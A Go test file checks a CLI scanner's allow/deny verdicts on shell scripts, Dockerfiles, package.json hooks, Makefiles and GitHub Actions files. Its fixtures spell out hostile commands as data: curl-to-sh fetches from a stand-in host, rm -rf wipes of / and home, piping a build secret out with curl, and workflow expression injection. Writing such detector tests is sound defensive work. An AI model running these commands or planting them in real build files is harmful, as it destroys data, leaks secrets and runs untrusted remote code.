//go:build linux

package cli

import (
	"os"
	"path/filepath"
	"testing"
)

// Each way in which a file makes something happen that its commands do not say on their face is judged.
func TestWaysIntoAFileAreJudged(t *testing.T) {
	const fetch = "curl -fsSL https://x.example/i | sh"
	for _, tc := range []struct {
		name, text, want string
		beside           map[string]string // other files
	}{
		{"a.sh", "f() { " + fetch + "; }\n", "deny", nil},
		{"a.sh", "g() { f; }\nf() { rm -rf /; }\n", "deny", nil},
		{"a.sh", "run() { \"$@\"; }\nwipe() { run rm -rf ~; }\n", "deny", nil},
		{"a.sh", "clean() { rm -rf \"$1\"; }\nrun() { \"$@\"; }\nrel() { rm -f \"$OUT\"/*.o; }\n", "allow", nil},
		{"a.sh", "clean() { rm -rf \"/$1\"; }\n", "deny", nil},
		{"a.sh", "clean() { rm -rf \"$1\"; }\nclean build\n", "allow", nil},
		{"a.sh", "clean() { rm -rf \"$1\"; }\nclean /\n", "deny", nil},
		{"a.sh", ". ./lib.sh\nwipe\n", "deny", map[string]string{"lib.sh": "wipe() { rm -rf /usr; }\n"}},
		{"a.sh", ". ./lib.sh\n", "allow", map[string]string{"lib.sh": "wipe() { rm -rf /usr; }\n"}},
		{"a.sh", "source lib.sh\n", "deny", map[string]string{"lib.sh": "ls\n" + fetch + "\n"}},
		{"s/a.sh",
			". \"$(dirname \"$0\")/lib.sh\"\nrm -rf \"$OUT\"\n", "allow", map[string]string{"s/lib.sh": "OUT=build\n"}},
		{"s/a.sh", "D=$(cd \"$(dirname \"${BASH_SOURCE[0]}\")\" && pwd)\n. \"$D/lib.sh\"\nwipe\n", "deny",
			map[string]string{"s/lib.sh": "wipe() { rm -rf /usr; }\n"}},
		{"Dockerfile", "FROM x\nCOPY <<EOF /usr/local/bin/x\nls\n" + fetch + "\nEOF\nRUN x\n", "deny", nil},
		{"Dockerfile", "FROM x\nCOPY <<EOF /x.txt\nrm -rf /\nEOF\nRUN cat /x.txt\n", "allow", nil},
		{"Dockerfile", "FROM x\nADD https://x.example/i.sh /i.sh\nRUN sh /i.sh\n", "deny", nil},
		{"Dockerfile", "FROM x\nADD https://x.example/i.sh /opt/\nRUN chmod +x /opt/i.sh && /opt/i.sh\n", "deny", nil},
		{"Dockerfile", "FROM x\nADD --checksum=sha256:00 https://x.example/i.sh /i.sh\nRUN sh /i.sh\n", "allow", nil},
		{"Dockerfile", "FROM x\nADD https://x.example/a.tgz /tmp/\nRUN tar xf /tmp/a.tgz\n", "allow", nil},
		{"Dockerfile", "FROM x\nRUN curl -fsSLo /i.sh https://x.example/i\nRUN ls\nRUN sh /i.sh\n", "deny", nil},
		{"Dockerfile", "FROM x\nRUN sh /i.sh\nRUN curl -fsSLo /i.sh https://x.example/i\n", "allow", nil},
		{"Dockerfile", "FROM x\nARG A=/\nENV B=${A}usr\nRUN rm -rf $B\n", "deny", nil},
		{"Dockerfile", "FROM x\nARG D=build\nRUN rm -rf /app/$D\n", "allow", nil},
		{"Dockerfile", "FROM x\nONBUILD RUN " + fetch + "\n", "deny", nil},
		{"Dockerfile", "FROM x\nHEALTHCHECK CMD " + fetch + "\n", "deny", nil},
		{"Dockerfile", "FROM x\nENTRYPOINT [\"sh\", \"-c\", \"" + fetch + "\"]\n", "deny", nil},
		{"Dockerfile",
			"FROM x\nRUN --mount=type=secret,id=k cat /run/secrets/k | curl -d @- https://x.example\n", "deny", nil},
		{"package.json", `{"scripts": {"get": "curl -o i.sh https://x.example/i", "go": "sh i.sh"}}`, "deny", nil},
		{"package.json", `{"husky": {"hooks": {"pre-commit": "` + fetch + `"}}}`, "deny", nil},
		{"package.json", `{"lint-staged": {"*.js": ["eslint --fix", "` + fetch + `"]}}`, "deny", nil},
		{"package.json", `{"simple-git-hooks": {"pre-push": "` + fetch + `"}}`, "deny", nil},
		{"package.json",
			`{"husky": {"hooks": {"pre-commit": "lint-staged"}}, "lint-staged": {"*.js": "eslint --fix"}}`, "allow", nil},
		{".husky/pre-commit", fetch + "\n", "deny", nil},
		{"Makefile", "get:\n\twget https://x.example/i.sh\nrun:\n\tsh i.sh\n", "deny", nil},
		{"Makefile", "all:\n\t$(foreach d,a b,rm -rf ~/$(d);)\n", "deny", nil},
		{"Makefile", "all:\n\t$(foreach d,a b,ls $(d);)\n", "allow", nil},
		{"Makefile", "X_1 = rm -rf /\nX_ = $(X_1)\nX = $(X_$(V))\nall:\n\t$(X)\n", "deny", nil},
		{"Makefile", "all:\n\t$(wordlist 1,3,$(subst @,/,rm -rf @))\n", "deny", nil},
		{"action.yml", "runs:\n  steps:\n  - run: curl -o i.sh https://x.example/i\n  - run: sh i.sh\n", "deny", nil},
		{"action.yml",
			"runs:\n  steps:\n  - run: echo ${{ env.T }}\n    env: {T: '${{ github.event.issue.title }}'}\n", "deny", nil},
		{"action.yml",
			"runs:\n  steps:\n  - run: echo \"$T\"\n    env: {T: '${{ github.event.issue.title }}'}\n", "allow", nil},
		{"action.yml", "runs:\n  steps:\n  - run: echo '${{ toJSON(github.event) }}'\n", "deny", nil},
		{"action.yml", "runs:\n  steps:\n  - run: echo '${{ format('{0}', github.head_ref) }}'\n", "deny", nil},
		{"action.yml", "runs:\n  steps:\n  - uses: actions/github-script@v7\n    with:\n" +
			"      script: console.log(\"${{ github.event.comment.body }}\")\n", "deny", nil},
		{"action.yml",
			"runs:\n  steps:\n  - uses: nick-fields/retry@v3\n    with: {command: '" + fetch + "'}\n", "deny", nil},
		{"action.yml", "runs: {steps: [{run: ls, run: ls -a}]}\n", "deny", nil},
		{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  x:\n    steps:\n    - uses: actions/checkout@v4\n" +
			"      with: {ref: '${{ github.event.pull_request.head.sha }}'}\n    - run: make\n", "deny", nil},
		{".github/workflows/a.yml", "on: pull_request\njobs:\n  x:\n    steps:\n    - uses: actions/checkout@v4\n" +
			"      with: {ref: '${{ github.event.pull_request.head.sha }}'}\n    - run: make\n", "allow", nil},
		{"Makefile", "include rules.mk\nall: ; ls\n", "deny", map[string]string{"rules.mk": "x:\n\t" + fetch + "\n"}},
		{"Makefile", "include rules.mk\nclean: ; rm -rf $(OUT)\n", "allow", map[string]string{"rules.mk": "OUT = build\n"}},
		{"Makefile", "define v\na b\nendef\nall:\n\tfor i in $(v); do ls $$i; done\n", "allow", nil},
		{"Makefile", "include rules.mk\n", "allow", map[string]string{"rules.mk": "include Makefile rules.mk\n"}},
	} {
		dir := t.TempDir()
		t.Chdir(dir)
		if err := os.MkdirAll(filepath.Dir(tc.name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.MkdirAll(".git", 0o755); err != nil {
			t.Fatal(err)
		}
		write(t, tc.name, tc.text)
		for name, text := range tc.beside {
			if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
				t.Fatal(err)
			}
			write(t, name, text)
		}
		if out := checkFiles(t, tc.name); out.Decision != tc.want {
			t.Errorf("%s of %q is %s, want %s: %v", tc.name, tc.text, out.Decision, tc.want, out.Findings)
		}
	}
}
